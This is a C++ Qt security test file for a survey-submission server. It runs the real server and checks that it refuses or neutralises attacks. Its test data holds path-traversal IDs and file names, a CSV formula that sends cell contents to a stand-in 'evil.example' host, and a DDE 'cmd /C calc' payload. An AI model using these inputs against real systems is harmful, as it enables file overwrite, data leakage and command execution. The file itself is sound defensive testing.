// SPDX-License-Identifier: GPL-3.0-or-later
// survey-sync under attack: the real binary on 127.0.0.1, attacked the way issue 10 found
// it could be — hostile names, another team's submissions, formula cells — each test
// performing the attack and checking that nothing it aimed at happened.
#include "testutil.h"

#include <httplib.h>
#include <zip.h>

#include <QDir>
#include <QDirIterator>
#include <QFileInfo>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QUuid>

#include <map>

#include <csignal>

namespace {

constexpr const char *kProbeForm =
    R"FORM(<h:html xmlns="http://www.w3.org/2002/xforms" xmlns:h="http://www.w3.org/1999/xhtml"
 xmlns:jr="http://openrosa.org/javarosa" xmlns:orx="http://openrosa.org/xforms">
<h:head><h:title>Security probe</h:title><model>
<instance><data id="probe" version="1"><note/><photo/><where/>
<meta><instanceID/></meta></data></instance>
<bind nodeset="/data/note" type="string"/>
<bind nodeset="/data/photo" type="binary"/>
<bind nodeset="/data/where" type="geopoint"/>
<bind nodeset="/data/meta/instanceID" type="string" readonly="true()" jr:preload="uid"/>
</model></h:head>
<h:body><input ref="/data/note"><label>Note</label></input>
<upload ref="/data/photo" mediatype="image/*"><label>Photo</label></upload>
<input ref="/data/where"><label>Where</label></input></h:body></h:html>
)FORM";

QString newId()
{
    return QStringLiteral("uuid:") + QUuid::createUuid().toString(QUuid::WithoutBraces);
}

/// A probe submission; `id` and `deprecated` are written as given (escaped for XML).
QByteArray submission(const QString &id, const QString &note = QStringLiteral("hello"),
                      const QString &photo = {}, const QString &deprecated = {},
                      const QString &where = {})
{
    auto esc = [](const QString &s) { return s.toHtmlEscaped().toUtf8(); };
    QByteArray xml = "<data xmlns:orx=\"http://openrosa.org/xforms\" id=\"probe\" version=\"1\">"
                     "<note>" +
                     esc(note) + "</note><photo>" + esc(photo) + "</photo><where>" + esc(where) +
                     "</where><meta><instanceID>" + esc(id) + "</instanceID>";
    if (!deprecated.isEmpty())
        xml += "<deprecatedID>" + esc(deprecated) + "</deprecatedID>";
    return xml + "</meta></data>";
}

/// The message inside an OpenRosaResponse.
QString message(const httplib::Result &r)
{
    const QByteArray body = QByteArray::fromStdString(r->body);
    const qsizetype open = body.indexOf('>', body.indexOf("<message"));
    const qsizetype close = body.indexOf("</message>");
    return open < 0 || close < 0 ? QString()
                                 : QString::fromUtf8(body.mid(open + 1, close - open - 1));
}

/// Every entry of a zip, by name.
std::map<QString, QByteArray> unzip(const std::string &bytes, const QString &scratch)
{
    std::map<QString, QByteArray> out;
    QFile f(scratch);
    if (!f.open(QIODevice::WriteOnly))
        return out;
    f.write(bytes.data(), static_cast<qint64>(bytes.size()));
    f.close();
    int err = 0;
    zip_t *z = zip_open(QFile::encodeName(scratch).constData(), ZIP_RDONLY, &err);
    if (!z)
        return out;
    for (zip_int64_t i = 0; i < zip_get_num_entries(z, 0); ++i) {
        zip_stat_t st;
        if (zip_stat_index(z, static_cast<zip_uint64_t>(i), 0, &st) != 0)
            continue;
        QByteArray content(static_cast<qsizetype>(st.size), 0);
        zip_file_t *zf = zip_fopen_index(z, static_cast<zip_uint64_t>(i), 0);
        if (zf) {
            zip_fread(zf, content.data(), st.size);
            zip_fclose(zf);
        }
        out[QString::fromUtf8(st.name)] = content;
    }
    zip_close(z);
    return out;
}

} // namespace

class TestServerSecurity : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void hostileInstanceIdsRefused_data();
    void hostileInstanceIdsRefused();
    void hostileAttachmentNamesRefused_data();
    void hostileAttachmentNamesRefused();
    void unreferencedAttachmentsLeftOut();
    void hostileStoredRowsExportSafely();
    void otherTeamsSubmissionsUntouchable();
    void csvCellsNeverFormulas();
    void acknowledgedSubmissionsAreSynced();

private:
    QString db() const
    {
        return QStringLiteral("sqlite:") + m_dir.filePath(QStringLiteral("s.db"));
    }
    httplib::Client client(const char *user, const char *password) const
    {
        httplib::Client c(m_host, m_port);
        c.set_connection_timeout(10);
        c.set_read_timeout(30);
        c.set_basic_auth(user, password);
        return c;
    }
    httplib::Result post(const QByteArray &xml,
                         const std::vector<std::pair<std::string, std::string>> &files = {},
                         const char *user = "enuA", const char *password = "enuA-password") const
    {
        httplib::MultipartFormDataItems items{
            {"xml_submission_file", xml.toStdString(), "submission.xml", "text/xml"}};
        for (const auto &[name, content] : files)
            items.push_back({name, content, name, "image/jpeg"});
        auto c = client(user, password);
        return c.Post("/v1/projects/1/submission", {{"X-OpenRosa-Version", "1.0"}}, items);
    }
    QVariant value(const QString &sql, const QVariantList &binds = {}) const
    {
        QVariant out;
        {
            QSqlDatabase c =
                QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("peek"));
            c.setDatabaseName(db().mid(7));
            if (c.open()) {
                QSqlQuery q(c);
                q.prepare(sql);
                for (const QVariant &b : binds)
                    q.addBindValue(b);
                if (q.exec() && q.next())
                    out = q.value(0);
                else if (!q.isSelect() && q.lastError().type() == QSqlError::NoError)
                    out = q.numRowsAffected();
            }
            c.close();
        }
        QSqlDatabase::removeDatabase(QStringLiteral("peek"));
        return out;
    }
    int count(const QString &sql, const QVariantList &binds = {}) const
    {
        return value(sql, binds).toInt();
    }
    /// Every file below the test's folder but the server's working folder, as paths
    /// relative to it.
    QStringList filesBelow(const QString &root) const
    {
        QStringList out;
        QDirIterator it(root, QDir::Files | QDir::Hidden | QDir::System,
                        QDirIterator::Subdirectories);
        while (it.hasNext()) {
            const QString path = QDir(root).relativeFilePath(it.next());
            if (!path.startsWith(QLatin1String("data/")))
                out << path;
        }
        out.sort();
        return out;
    }

    QTemporaryDir m_dir;
    QProcess m_server;
    std::string m_host;
    int m_port = 0;
};

void TestServerSecurity::initTestCase()
{
    QVERIFY(m_dir.isValid());
    const QString form = m_dir.filePath(QStringLiteral("probe.xml"));
    {
        QFile f(form);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(kProbeForm);
    }
    QVERIFY(testutil::seedServer(QStringLiteral(SURVEY_SYNC), db(),
                                 {{QStringLiteral("supA"),
                                   QStringLiteral("supervisor"),
                                   QStringLiteral("supA-password"),
                                   {}},
                                  {QStringLiteral("supB"),
                                   QStringLiteral("supervisor"),
                                   QStringLiteral("supB-password"),
                                   {}},
                                  {QStringLiteral("enuA"), QStringLiteral("enumerator"),
                                   QStringLiteral("enuA-password"), QStringLiteral("supA")},
                                  {QStringLiteral("enuB"), QStringLiteral("enumerator"),
                                   QStringLiteral("enuB-password"), QStringLiteral("supB")}},
                                 {form}));
    QVERIFY(QDir().mkpath(m_dir.filePath(QStringLiteral("data"))));
    const QUrl base = testutil::startAndReadUrl(
        m_server, QStringLiteral(SURVEY_SYNC),
        {QStringLiteral("serve"), QStringLiteral("--db"), db(), QStringLiteral("--listen"),
         QStringLiteral("127.0.0.1:0"), QStringLiteral("--insecure-http"),
         QStringLiteral("--data-dir"), m_dir.filePath(QStringLiteral("data"))});
    QVERIFY(base.isValid());
    m_host = base.host().toStdString();
    m_port = base.port();
}

void TestServerSecurity::cleanupTestCase()
{
    m_server.terminate();
    if (!m_server.waitForFinished(5000)) {
        m_server.kill();
        m_server.waitForFinished();
    }
}

void TestServerSecurity::hostileInstanceIdsRefused_data()
{
    QTest::addColumn<QString>("id");
    QTest::newRow("climbs out") << QStringLiteral("../../../../tmp/survey-pwned");
    QTest::newRow("slash") << QStringLiteral("uuid:a/b");
    QTest::newRow("backslash") << QStringLiteral("uuid:a\\b");
    QTest::newRow("tab") << QStringLiteral("uuid:a\tb");
    QTest::newRow("right-to-left override") << QStringLiteral("uuid:abc\u202Egpj.exe");
    QTest::newRow("too long") << QStringLiteral("uuid:") + QString(196, QLatin1Char('a'));
}

void TestServerSecurity::hostileInstanceIdsRefused()
{
    // instanceID and deprecatedID become keys and names: only plain printable ones are taken.
    QFETCH(QString, id);
    const int before = count(QStringLiteral("SELECT COUNT(*) FROM submissions"));
    auto r =
        post(submission(id, QStringLiteral("n"), QStringLiteral("p.jpg")), {{"p.jpg", "JPEG"}});
    QVERIFY(r);
    QCOMPARE(r->status, 400);
    QCOMPARE(message(r),
             QStringLiteral("the instanceID is not acceptable: use the OpenRosa form uuid:… "
                            "(printable characters, no '/' or '\\', at most 200)"));
    r = post(submission(newId(), QStringLiteral("n"), {}, id));
    QVERIFY(r);
    QCOMPARE(r->status, 400);
    QVERIFY2(message(r).startsWith(QLatin1String("the deprecatedID is not acceptable")),
             qPrintable(message(r)));
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM submissions")), before);
    // 200 characters is the most taken.
    const QString longest = QStringLiteral("uuid:") + QString(195, QLatin1Char('b'));
    r = post(submission(longest));
    QVERIFY(r);
    QCOMPARE(r->status, 201);
}

void TestServerSecurity::hostileAttachmentNamesRefused_data()
{
    QTest::addColumn<QString>("name");
    QTest::newRow("climbs out") << QStringLiteral("../../survey.db-wal");
    QTest::newRow("folder") << QStringLiteral("media/p.jpg");
    QTest::newRow("backslash") << QStringLiteral("..\\p.jpg");
    QTest::newRow("dot dot") << QStringLiteral("..");
    QTest::newRow("hidden") << QStringLiteral(".bashrc");
    QTest::newRow("newline") << QStringLiteral("p\n.jpg");
    QTest::newRow("too long") << QString(252, QLatin1Char('p')) + QStringLiteral(".jpg");
}

void TestServerSecurity::hostileAttachmentNamesRefused()
{
    QFETCH(QString, name);
    const QString id = newId();
    auto r = post(submission(id, QStringLiteral("n"), name), {{name.toStdString(), "JPEG"}});
    QVERIFY(r);
    QCOMPARE(r->status, 400);
    QVERIFY2(message(r).contains(QLatin1String("is not a plain file name")),
             qPrintable(message(r)));
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM submissions WHERE instance_id = ?"), {id}),
             0);
    // The same file twice in one request is refused too.
    r = post(submission(id, QStringLiteral("n"), QStringLiteral("p.jpg")),
             {{"p.jpg", "one"}, {"p.jpg", "two"}});
    QVERIFY(r);
    QCOMPARE(r->status, 400);
    QCOMPARE(message(r), QStringLiteral("the attachment 'p.jpg' is sent twice in one request"));
}

void TestServerSecurity::unreferencedAttachmentsLeftOut()
{
    // Only files the XML names are kept (as ODK Central does); the answer says which were not.
    const QString id = newId();
    auto r = post(submission(id, QStringLiteral("n"), QStringLiteral("house.jpg")),
                  {{"house.jpg", "JPEG"}, {"extra.bin", std::string(1000, 'x')}});
    QVERIFY(r);
    QCOMPARE(r->status, 201);
    QCOMPARE(message(r),
             QStringLiteral("submission received Left out 1 file(s) the submission does not "
                            "refer to: extra.bin"));
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM submission_attachments a JOIN "
                                  "submission_versions v ON v.id = a.version_id WHERE "
                                  "v.instance_id = ?"),
                   {id}),
             1);
    QCOMPARE(value(QStringLiteral("SELECT a.name FROM submission_attachments a JOIN "
                                  "submission_versions v ON v.id = a.version_id WHERE "
                                  "v.instance_id = ?"),
                   {id})
                 .toString(),
             QStringLiteral("house.jpg"));
}

void TestServerSecurity::hostileStoredRowsExportSafely()
{
    // Rows stored before intake checked names (written here straight into the database):
    // the export names nothing after them, writes nothing outside its folder, and still
    // exports everything else.
    const QString good = newId();
    auto r = post(submission(good, QStringLiteral("fine"), QStringLiteral("a.jpg")),
                  {{"a.jpg", "GOOD"}});
    QVERIFY(r);
    QCOMPARE(r->status, 201);
    const QString target = m_dir.filePath(QStringLiteral("outside/pwned"));
    QVERIFY(QDir().mkpath(m_dir.filePath(QStringLiteral("outside"))));
    const QString hostileId = QStringLiteral("../../../../../../../..") + target;
    const QString hostileName = QStringLiteral("../../../../../../../..") + target + "-wal";
    QCOMPARE(count(QStringLiteral(
                       "INSERT INTO submissions (form_id, instance_id, submitter_id, created_at) "
                       "SELECT f.id, ?, u.id, '2026-01-01' FROM forms f, users u WHERE u.name = "
                       "'enuA'"),
                   {hostileId}),
             1);
    const int sub =
        count(QStringLiteral("SELECT id FROM submissions WHERE instance_id = ?"), {hostileId});
    QCOMPARE(count(QStringLiteral("INSERT INTO submission_versions (submission_id, "
                                  "form_version_id, instance_id, xml, xml_hash, submitter_id, "
                                  "created_at) SELECT ?, v.id, ?, ?, 'x', u.id, '2026-01-01' FROM "
                                  "form_versions v, users u WHERE u.name = 'enuA'"),
                   {sub, hostileId, submission(hostileId, QStringLiteral("bad"), hostileName)}),
             1);
    const int version = count(
        QStringLiteral("SELECT id FROM submission_versions WHERE instance_id = ?"), {hostileId});
    QCOMPARE(count(QStringLiteral("UPDATE submissions SET current_version_id = ? WHERE id = ?"),
                   {version, sub}),
             1);
    QCOMPARE(count(QStringLiteral("INSERT INTO submission_attachments (version_id, name, hash, "
                                  "content) VALUES (?, ?, 'x', ?)"),
                   {version, hostileName, QByteArray("EVIL")}),
             1);
    const QStringList before = filesBelow(m_dir.path());

    auto c = client("admin", "admin-password");
    auto res = c.Get("/v1/projects/1/forms/probe/submissions.csv.zip");
    QVERIFY(res);
    QCOMPARE(res->status, 200);
    QCOMPARE(filesBelow(m_dir.path()), before); // nothing written outside the working folder
    QVERIFY(!QFileInfo::exists(target + QStringLiteral("-wal")));
    const auto entries = unzip(res->body, m_dir.filePath(QStringLiteral("export.zip")));
    QFile::remove(m_dir.filePath(QStringLiteral("export.zip")));
    for (const auto &[name, content] : entries) {
        QVERIFY2(!name.contains(QLatin1String("..")) && !name.startsWith(QLatin1Char('/')),
                 qPrintable(name));
    }
    const QString goodFolder = QString(good).replace(QLatin1Char(':'), QLatin1Char('_'));
    QCOMPARE(entries.at(QStringLiteral("media/%1/a.jpg").arg(goodFolder)), QByteArray("GOOD"));
    const int attachment = count(
        QStringLiteral("SELECT id FROM submission_attachments WHERE version_id = ?"), {version});
    QCOMPARE(entries.at(
                 QStringLiteral("media/submission-%1/attachment-%2").arg(version).arg(attachment)),
             QByteArray("EVIL"));
    QVERIFY(entries.at(QStringLiteral("export-problems.txt")).contains("attachment-"));
    QVERIFY(entries.at(QStringLiteral("probe.csv")).contains(good.toUtf8()));
    // The row is cleaned up for the other tests.
    for (const QString &sql :
         {QStringLiteral("DELETE FROM submission_attachments WHERE version_id = %1").arg(version),
          QStringLiteral("UPDATE submissions SET current_version_id = NULL WHERE id = %1").arg(sub),
          QStringLiteral("DELETE FROM submission_versions WHERE id = %1").arg(version),
          QStringLiteral("DELETE FROM submissions WHERE id = %1").arg(sub)})
        value(sql);
}

void TestServerSecurity::otherTeamsSubmissionsUntouchable()
{
    // enuB (supervisor B's team) aims at enuA's submission: an edit naming it, and a resend of
    // its exact XML carrying a file of B's. Both fail exactly as they would for a submission
    // that does not exist or is someone else's, and A's data stays as it was.
    const QString a = newId();
    const QByteArray aXml = submission(a, QStringLiteral("A's answer"), QStringLiteral("a.jpg"));
    auto r = post(aXml, {{"a.jpg", "A-PHOTO"}});
    QVERIFY(r);
    QCOMPARE(r->status, 201);
    const auto attachments = [&] {
        return count(QStringLiteral("SELECT COUNT(*) FROM submission_attachments t JOIN "
                                    "submission_versions v ON v.id = t.version_id WHERE "
                                    "v.instance_id = ?"),
                     {a});
    };
    QCOMPARE(attachments(), 1);

    const QString edit = newId();
    r = post(submission(edit, QStringLiteral("B's rewrite"), {}, a), {}, "enuB", "enuB-password");
    QVERIFY(r);
    QCOMPARE(r->status, 409);
    const QString refusal = message(r);
    const QString nobody = newId();
    r = post(submission(newId(), QStringLiteral("B's rewrite"), {}, nobody), {}, "enuB",
             "enuB-password");
    QVERIFY(r);
    QCOMPARE(r->status, 409);
    QCOMPARE(refusal, message(r).replace(nobody, a)); // the same words as for no submission
    QCOMPARE(count(QStringLiteral("SELECT COUNT(*) FROM submission_versions WHERE instance_id = ?"),
                   {edit}),
             0);
    QCOMPARE(value(QStringLiteral("SELECT v.instance_id FROM submissions s JOIN "
                                  "submission_versions v ON v.id = s.current_version_id WHERE "
                                  "s.instance_id = ?"),
                   {a})
                 .toString(),
             a);

    // A's exact XML from B, with a file of B's: refused, nothing added.
    const QByteArray withB = submission(a, QStringLiteral("A's answer"), QStringLiteral("a.jpg"));
    QCOMPARE(withB, aXml);
    r = post(aXml, {{"a.jpg", "B-PHOTO"}}, "enuB", "enuB-password");
    QVERIFY(r);
    QCOMPARE(r->status, 409);
    QCOMPARE(message(r),
             QStringLiteral("instanceID %1 is already taken by another submission; an edit needs "
                            "a new instanceID and deprecatedID %1")
                 .arg(a));
    QCOMPARE(attachments(), 1);
    QCOMPARE(value(QStringLiteral("SELECT t.content FROM submission_attachments t JOIN "
                                  "submission_versions v ON v.id = t.version_id WHERE "
                                  "v.instance_id = ?"),
                   {a})
                 .toByteArray(),
             QByteArray("A-PHOTO"));

    // Its own submitter resends and edits; an admin may edit too.
    r = post(aXml, {{"a.jpg", "A-PHOTO"}});
    QVERIFY(r);
    QCOMPARE(r->status, 201);
    const QString ownEdit = newId();
    r = post(submission(ownEdit, QStringLiteral("A's correction"), {}, a));
    QVERIFY(r);
    QCOMPARE(r->status, 201);
    r = post(submission(newId(), QStringLiteral("admin's correction"), {}, ownEdit), {}, "admin",
             "admin-password");
    QVERIFY(r);
    QCOMPARE(r->status, 201);
}

void TestServerSecurity::csvCellsNeverFormulas()
{
    // Answers that a spreadsheet would run as formulas are exported as text (a leading
    // apostrophe); numbers and geopoints, negative ones included, stay as they are.
    const std::vector<std::pair<QString, QString>> cases{
        {QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
         QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"")},
        {QStringLiteral("+1+cmd|' /C calc'!A0"), QStringLiteral("'+1+cmd|' /C calc'!A0")},
        {QStringLiteral("-2+3"), QStringLiteral("'-2+3")},
        {QStringLiteral("@SUM(A1:A9)"), QStringLiteral("'@SUM(A1:A9)")},
        {QStringLiteral("\t=1"), QStringLiteral("'\t=1")},
        {QStringLiteral("-12.5"), QStringLiteral("-12.5")},
        {QStringLiteral("a=b"), QStringLiteral("a=b")},
    };
    QStringList ids;
    for (const auto &[note, expected] : cases) {
        ids << newId();
        auto r = post(submission(ids.back(), note, {}, {}, QStringLiteral("-1.29 36.82 1700 5")),
                      {}, "enuB", "enuB-password");
        QVERIFY(r);
        QCOMPARE(r->status, 201);
    }
    auto c = client("supB", "supB-password");
    auto res = c.Get("/v1/projects/1/forms/probe/submissions.csv.zip");
    QVERIFY(res);
    QCOMPARE(res->status, 200);
    const auto entries = unzip(res->body, m_dir.filePath(QStringLiteral("export.zip")));
    QFile::remove(m_dir.filePath(QStringLiteral("export.zip")));
    const QString csv = QString::fromUtf8(entries.at(QStringLiteral("probe.csv")));
    for (std::size_t i = 0; i < cases.size(); ++i) {
        // SubmissionDate,note,photo,where,meta-instanceID,KEY,…
        const qsizetype at = csv.indexOf(ids[static_cast<qsizetype>(i)]);
        QVERIFY(at > 0);
        const qsizetype lineStart = csv.lastIndexOf(QLatin1String("\r\n"), at) + 2;
        const QString line = csv.mid(lineStart, at - lineStart);
        const qsizetype firstComma = line.indexOf(QLatin1Char(','));
        const QString expectedCells = cases[i].second + QStringLiteral(",,-1.29 36.82 1700 5,");
        QCOMPARE(line.mid(firstComma + 1), expectedCells);
    }
}

void TestServerSecurity::acknowledgedSubmissionsAreSynced()
{
    // A 201 is sent only after the submission's commit reached the disk: between reading the
    // request and writing the 201, the server syncs the database's write-ahead log (with
    // synchronous=NORMAL it did not, and a power cut could lose what a device was told was
    // stored, and then deleted). Watched from outside with strace.
    const QString strace = QStandardPaths::findExecutable(QStringLiteral("strace"));
    QVERIFY2(!strace.isEmpty(), "strace is needed (scripts/deps.sh installs it)");
    const QString log = m_dir.filePath(QStringLiteral("strace.log"));
    QProcess traced;
    const QUrl base = testutil::startAndReadUrl(
        traced, strace,
        {QStringLiteral("-f"), QStringLiteral("-y"), QStringLiteral("-s"), QStringLiteral("48"),
         QStringLiteral("-e"),
         QStringLiteral("trace=fsync,fdatasync,read,recvfrom,write,sendto,sendmsg,writev"),
         QStringLiteral("-o"), log, QStringLiteral(SURVEY_SYNC), QStringLiteral("serve"),
         QStringLiteral("--db"), db(), QStringLiteral("--listen"), QStringLiteral("127.0.0.1:0"),
         QStringLiteral("--insecure-http")});
    QVERIFY(base.isValid());
    httplib::Client c(base.host().toStdString(), base.port());
    c.set_basic_auth("enuA", "enuA-password");
    c.set_read_timeout(30);
    // Two submissions: the first one's commit may create the write-ahead log, which SQLite
    // syncs in any mode; the second one is the one watched.
    for (int i = 0; i < 2; ++i) {
        auto r = c.Post("/v1/projects/1/submission", {{"X-OpenRosa-Version", "1.0"}},
                        httplib::MultipartFormDataItems{{"xml_submission_file",
                                                         submission(newId()).toStdString(),
                                                         "submission.xml", "text/xml"}});
        QVERIFY(r);
        QCOMPARE(r->status, 201);
    }
    // strace ends with the server it runs: its child, stopped here.
    const QByteArray children =
        testutil::readFile(QStringLiteral("/proc/%1/task/%1/children").arg(traced.processId()));
    QVERIFY(!children.trimmed().isEmpty());
    QCOMPARE(
        ::kill(static_cast<pid_t>(children.trimmed().split(' ').first().toLongLong()), SIGTERM), 0);
    QVERIFY(traced.waitForFinished(20000));
    const QList<QByteArray> lines = testutil::readFile(log).split('\n');
    qsizetype request = -1;
    qsizetype answer = -1;
    int posts = 0;
    for (qsizetype i = 0; i < lines.size() && answer < 0; ++i) {
        if (lines[i].contains("POST /v1/projects/1/submission") && ++posts == 2)
            request = i;
        else if (request >= 0 && lines[i].contains("HTTP/1.1 201"))
            answer = i;
    }
    QVERIFY2(request >= 0 && answer > request, "the request and its answer are in the trace");
    bool synced = false;
    for (qsizetype i = request; i < answer; ++i) {
        const QByteArray &l = lines[i];
        synced = synced || ((l.contains("fdatasync(") || l.contains("fsync(")) &&
                            l.contains(".db-wal>") && l.contains("= 0"));
    }
    QVERIFY2(synced, "no sync of the write-ahead log between the request and its 201");
}

QTEST_GUILESS_MAIN(TestServerSecurity)
#include "tst_server_security.moc"
